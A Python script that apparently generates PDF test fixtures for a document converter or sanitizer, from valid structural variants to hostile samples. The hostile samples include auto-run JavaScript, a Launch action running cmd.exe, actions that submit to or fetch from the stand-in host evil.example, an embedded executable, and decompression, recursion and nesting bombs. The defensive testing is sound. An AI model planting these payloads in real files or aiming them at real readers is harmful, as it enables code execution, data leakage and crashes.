"""PDFs of many features, and what is done to them to do harm."""
import os
import subprocess
import tempfile
import zlib

import documents as doc
import table
from table import document

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 12 Tf 20 170 Td (visible words) Tj ET "


def stream(number, head, body):
    return b"%d 0 obj<<%s/Length %d>>stream\n" % (number, head, len(body)) + body + b"\nendstream endobj\n"


def loose(content, catalog=b"", extra=b"", more=b"", kids=b"3 0 R", count=1, box=b"0 0 300 200", resources=b""):
    """A page without any table of its objects, as a reader finds them."""
    return (b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n2 0 obj<</Type/Pages/Kids[%s]/Count %d>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s/Resources<</Font<</F %s>>%s>>>>endobj\n"
            % (catalog, kids, count, box, extra, FONT, resources)) + stream(4, b"", content) + more + b"trailer<</Root 1 0 R>>\n"


def good(name, data, pages=1, words="visible words", **more):
    document(name, data, "images", pages=pages, words=words, kind="pdf", **more)


def any_end(name, data, **more):
    document(name, data, "images|text|stub", "*", **more)


def qpdf(data, *options):
    """The same document as another producer would write it."""
    with tempfile.TemporaryDirectory() as folder:
        source, target = os.path.join(folder, "a.pdf"), os.path.join(folder, "b.pdf")
        with open(source, "wb") as f:
            f.write(data)
        subprocess.run(["qpdf"] + list(options) + [source, target], check=True, stderr=subprocess.DEVNULL)
        with open(target, "rb") as f:
            return f.read()


def structure():
    page = doc.text_pdf([["visible words"]])
    two = doc.text_pdf([["visible words"], ["second page"]])
    good("object-streams.pdf", qpdf(two, "--object-streams=generate"), 2, ("visible words", "second page"))
    good("linearized.pdf", qpdf(two, "--linearize"), 2, "second page")
    good("uncompressed.pdf", qpdf(two, "--qdf"), 2, "second page")
    good("version-2.pdf", qpdf(two, "--force-version=2.0"), 2, "second page")
    good("old-version.pdf", page.replace(b"%PDF-1.4", b"%PDF-1.0"))
    good("words-before.pdf", b"a line of a mailer\r\n" * 5 + page)
    good("words-after.pdf", page + b"\n-- \nsent from a mailer\n" * 20)
    good("mac-lines.pdf", loose(WORDS).replace(b"endobj\n", b"endobj\r"))
    good("no-xref.pdf", loose(WORDS))
    for turn in (90, 180, 270):
        good("turned-%d.pdf" % turn, qpdf(page, "--rotate=+%d" % turn))
    good("inherited.pdf", loose(WORDS).replace(b"/MediaBox[0 0 300 200]", b"").replace(b"/Count 1", b"/Count 1/MediaBox[0 0 300 200]"))
    good("crop-box.pdf", loose(WORDS, extra=b"/CropBox[10 100 200 190]"))
    good("user-unit.pdf", loose(WORDS, extra=b"/UserUnit 2"))
    good("negative-box.pdf", loose(b"BT /F 12 Tf -80 -20 Td (visible words) Tj ET", box=b"-100 -50 100 50"))
    good("tiny-box.pdf", loose(WORDS, box=b"0 0 3 3"), words="*")
    good("wide-box.pdf", loose(WORDS, box=b"0 0 6000 200"))
    good("sixty.pdf", doc.text_pdf([["page %d of many" % i] for i in range(60)]), 60, "page 59 of many")
    good("appended.pdf", page + page[9:].replace(b"visible", b"VISIBLE"), words="*")
    good("many-sizes.pdf", qpdf(two, "--rotate=+90:2"), 2, "second page")
    good("info.pdf", doc.text_pdf([["visible words"]], info={"Title": "secret title", "Author": "secret author"}),
         lacks=("secret title", "secret author"))
    good("owner-locked.pdf", qpdf(page, "--encrypt", "", "owner", "256", "--"), facts="*")
    for bits in ("40", "128", "256"):
        weak = ["--allow-weak-crypto"] if bits != "256" else []
        document("locked-%s.pdf" % bits, qpdf(page, *weak, "--encrypt", "sesame", "owner", bits, "--"), "stub", "encrypted",
                 facts="encrypted")


def drawing():
    type3 = (b"<</Type/Font/Subtype/Type3/FontBBox[0 0 750 750]/FontMatrix[.001 0 0 .001 0 0]/CharProcs<</a 8 0 R>>"
             b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1000]>>")
    good("type3.pdf", loose(WORDS + b"BT /T 40 Tf 20 50 Td (aaa) Tj ET", more=b"7 0 obj%sendobj\n" % type3 +
         stream(8, b"", b"1000 0 0 0 750 750 d1 0 0 750 750 re f")).replace(b"/F %s" % FONT, b"/F %s/T 7 0 R" % FONT))
    shading = (b"/Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 300 200]/Function<</FunctionType 2/Domain[0 1]"
               b"/C0[1 0 0]/C1[0 0 1]/N 1>>>>>>")
    good("shading.pdf", loose(b"/S sh " + WORDS, resources=shading))
    good("see-through.pdf", loose(b"/G gs 0 1 0 rg 0 0 200 150 re f " + WORDS,
         resources=b"/ExtGState<</G<</ca .5/CA .5/BM/Multiply>>>>"))
    good("four-colours.pdf", loose(b"0 1 1 0 k 10 10 90 90 re f 0 g " + WORDS))
    good("lab.pdf", loose(b"/L cs 50 60 40 sc 10 10 90 90 re f 0 g " + WORDS,
         resources=b"/ColorSpace<</L[/Lab<</WhitePoint[.95 1 1.09]/Range[-128 127 -128 127]>>]>>"))
    good("pattern.pdf", loose(b"/Pattern cs /P scn 10 10 150 90 re f 0 g " + WORDS, resources=b"/Pattern<</P 9 0 R>>",
         more=stream(9, b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<<>>",
                     b"1 0 0 rg 0 0 5 5 re f")))
    good("inline-image.pdf", loose(b"q 50 0 0 50 20 20 cm BI /W 4 /H 4 /BPC 8 /CS /G ID 0123456789abcdef EI Q " + WORDS))
    form = stream(10, b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</Font<</F %s>>>>" % FONT, WORDS)
    good("in-a-form.pdf", loose(b"/X Do", resources=b"/XObject<</X 10 0 R>>", more=form))
    good("layers.pdf", loose(WORDS + b"/OC /O BDC BT /F 12 Tf 20 50 Td (secret layer) Tj ET EMC",
         b"/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>", resources=b"/Properties<</O 6 0 R>>",
         more=b"6 0 obj<</Type/OCG/Name(x)>>endobj\n"), lacks="secret layer")
    good("typed-in.pdf", loose(WORDS, b"/AcroForm<</Fields[8 0 R]/DA(/F 12 Tf 0 g)>>", b"/Annots[8 0 R]",
         b"8 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(n)/V(typed in)/Rect[20 100 200 120]/DA(/F 12 Tf 0 g)/F 4/AP<</N 11 0 R>>"
         b">>endobj\n" + stream(11, b"/Type/XObject/Subtype/Form/BBox[0 0 180 20]/Resources<</Font<</F %s>>>>" % FONT,
                                b"BT /F 12 Tf 2 5 Td (typed in) Tj ET")), words=("visible words", "typed in"), facts="forms")
    good("stamp.pdf", loose(WORDS, extra=b"/Annots[8 0 R]", more=b"8 0 obj<</Type/Annot/Subtype/Stamp/Rect[20 20 200 60]/F 4"
         b"/AP<</N 11 0 R>>>>endobj\n" + stream(11, b"/Type/XObject/Subtype/Form/BBox[0 0 180 40]", b"1 0 0 RG 5 5 170 30 re S")))
    good("outlines.pdf", doc.text_pdf([["visible words"]], catalog=b"/Outlines<</Type/Outlines/First<</Title(mark)/Dest[0/Fit]>>"
         b"/Count 1>>/PageMode/UseOutlines"))
    good("blank.pdf", loose(b""), words="*")
    for c, lines in (("Japan1", ["縦書きの資料"]), ("CNS1", ["繁體中文"]), ("GB1", ["简体中文"])):
        good("not-embedded-%s.pdf" % c.lower(), doc.cjk_pdf(lines, c), 1, lines[0])


def active():
    evil = b"http://evil.example/pay"
    for name, catalog, extra, fact in (
            ("script-open", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", b"", "scripts=JavaScript"),
            ("script-page", b"", b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>", "scripts"),
            ("script-names", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.exportDataObject\\(\\))>>]>>>>", b"", "scripts"),
            ("launch", b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", b"", "*"),
            ("go-elsewhere", b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>", b"", "*"),
            ("submit", b"/AcroForm<</Fields[]>>", b"/AA<</O<</S/SubmitForm/F(%s)>>>>" % evil, "*"),
            ("link-uri", b"", b"/Annots[<</Type/Annot/Subtype/Link/Rect[15 165 120 185]/A<</S/URI/URI(%s)>>>>]" % evil, "*"),
            ("rich-media", b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 90 90]/RichMediaContent<<>>>>]", "*"),
            ("movie", b"", b"/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0>>>>]", "*"),
            ("xfa", b"/AcroForm<</Fields[]/XFA[(template)12 0 R]>>", b"", "forms")):
        good("%s.pdf" % name, loose(WORDS, catalog, extra, stream(12, b"", b"<template>secret form</template>")), facts=fact,
             lacks=("/JavaScript", "/Launch", "/URI", "http://evil", "secret form"))
    files = (b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 13 0 R>>>>]>>>>")
    good("file-inside.pdf", loose(WORDS, files, more=stream(13, b"/Type/EmbeddedFile", b"MZ" + bytes(300))), facts="embedded")
    good("long-with-file.pdf", doc.text_pdf([["page %d" % i] for i in range(40)], catalog=files.replace(b"13 0 R", b"83 0 R"),
         extra_objects=[b"<</Type/EmbeddedFile/Length 15>>\nstream\nwords of a file\nendstream"]), 40, ("page 39", "words of a file"),
         facts="embedded")
    good("portfolio.pdf", loose(WORDS, files + b"/Collection<</View/T>>", more=stream(13, b"/Type/EmbeddedFile", b"words of a file")),
         facts="embedded")


def damaged():
    page = doc.text_pdf([["visible words"], ["second page"]])
    for part in (1, 2, 3):
        any_end("cut-pdf-%d.pdf" % part, page[:len(page) * part // 4])
    turned = bytearray(page)
    for i in range(20, len(turned), 97):
        turned[i] ^= 0x55
    any_end("turned-bytes.pdf", bytes(turned))
    any_end("xref-lies.pdf", page.replace(b"00000 n", b"99999 n"))
    any_end("start-lies.pdf", page[:page.rindex(b"startxref")] + b"startxref\n99999999\n%%EOF")
    any_end("length-lies.pdf", page.replace(b"/Length ", b"/Length 99999"))
    any_end("filter-lies.pdf", page.replace(b"/FlateDecode", b"/LZWDecode  "))
    any_end("filters.pdf", loose(b"q").replace(b"<</Length", b"<</Filter[%s]/Length" % (b"/ASCIIHexDecode" * 500)))
    any_end("no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n")
    any_end("root-loop.pdf", b"%PDF-1.4\n1 0 obj 1 0 R endobj\ntrailer<</Root 1 0 R>>\n")
    any_end("prev-loop.pdf", page[:page.rindex(b"trailer")] + b"trailer<</Size 9/Root 9 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
            % (page.rindex(b"xref\n0"), page.rindex(b"xref\n0")))
    any_end("parent-loop.pdf", loose(WORDS).replace(b"/Parent 2 0 R/MediaBox[0 0 300 200]", b"/Parent 3 0 R"))
    good("count-lies.pdf", loose(WORDS, count=9000000), 1, reason="*")
    any_end("same-page.pdf", loose(WORDS, kids=b"3 0 R " * 700, count=700))
    document("pages-70.pdf", doc.text_pdf([["p"]] * 70), "images", "limit-pages", pages=60)
    any_end("page-loop.pdf", loose(b"/X Do", resources=b"/XObject<</X 10 0 R>>", more=stream(
        10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>", b"/X Do")))
    forms = b"".join(stream(n, b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1),
                            b"/X Do /X Do") for n in range(10, 40))
    any_end("form-bomb.pdf", loose(b"/X Do", resources=b"/XObject<</X 10 0 R>>", more=forms + stream(
        40, b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]", b"0 0 9 9 re f")))
    any_end("flate-bomb.pdf", loose(b"").replace(b"/Length 0>>stream\n", b"/Filter/FlateDecode/Length %d>>stream\n%s" % (
        len(zlib.compress(b" " * (300 << 20), 9)), zlib.compress(b" " * (300 << 20), 9))))
    any_end("image-bomb.pdf", loose(b"300 0 0 200 0 0 cm /X Do", resources=b"/XObject<</X 10 0 R>>", more=stream(
        10, b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"
            b"/Filter/FlateDecode", zlib.compress(bytes(1 << 20)))))
    any_end("deep-arrays.pdf", loose(WORDS, extra=b"/X " + b"[" * 50000 + b"]" * 50000))
    any_end("deep-saves.pdf", loose(b"q " * 200000 + WORDS))
    any_end("numbers-odd.pdf", loose(b"99999999999999999999999 -.-.-. 1e999 re f " + WORDS))
    any_end("matrix.pdf", loose(b"1e30 0 0 1e30 0 0 cm 0 0 1 1 re f 1e-30 0 0 1e-30 0 0 cm " + WORDS))
    any_end("dashes.pdf", loose(b"[.0001 .0001] 0 d 0 0 m 100000 100000 l S " + WORDS))
    any_end("font-broken.pdf", loose(WORDS).replace(FONT, b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</Type/FontDescriptor"
            b"/FontFile2 14 0 R>>>>") + stream(14, b"", bytes(range(256)) * 8))
    any_end("tiling-bomb.pdf", loose(b"/Pattern cs /P scn 0 0 300 200 re f", resources=b"/Pattern<</P 9 0 R>>", more=stream(
        9, b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>", b"0 0 1 1 re f")))
    any_end("calculator.pdf", loose(b"/S sh", resources=b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 15 0 R>>>>",
            more=stream(15, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]", b"{" + b"dup mul " * 20000 + b"}")))
    any_end("jbig2-broken.pdf", image_pdf(b"/JBIG2Decode", bytes(range(200))))
    any_end("jpx-broken.pdf", image_pdf(b"/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200)))
    any_end("fax-broken.pdf", image_pdf(b"/CCITTFaxDecode", b"\xff\0\x55" * 100))
    any_end("jpeg-broken.pdf", image_pdf(b"/DCTDecode", b"\xff\xd8\xff\xdb" + b"\xff" * 100))


def image_pdf(decoder, body):
    return loose(WORDS + b" q 90 0 0 90 0 0 cm /X Do Q", resources=b"/XObject<</X 10 0 R>>", more=stream(
        10, b"/Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 1/ColorSpace/DeviceGray/Filter" + decoder, body))


def samples():
    structure()
    drawing()
    with table.hostile_samples():
        active()
        damaged()
